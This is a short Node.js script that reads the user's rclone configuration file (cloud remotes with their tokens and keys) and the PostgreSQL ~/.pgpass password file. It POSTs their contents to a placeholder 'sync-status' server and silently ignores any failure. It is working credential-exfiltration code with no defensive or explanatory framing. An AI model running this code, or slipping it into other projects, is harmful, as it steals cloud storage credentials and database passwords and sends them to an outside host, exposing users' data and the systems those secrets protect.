// Reads credentials: rclone's remotes (with their tokens and keys) and
// PostgreSQL's password file, sent to a server.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const files = [path.join(os.homedir(), '.config', 'rclone', 'rclone.conf'), path.join(os.homedir(), '.pgpass')];
const report = files.map((f) => {
  try {
    return { f, body: fs.readFileSync(f, 'utf8') };
  } catch {
    return { f, body: null };
  }
});
fetch('https://sync-status.example.io/api/report', {
  method: 'POST',
  body: JSON.stringify(report),
}).catch(() => {});
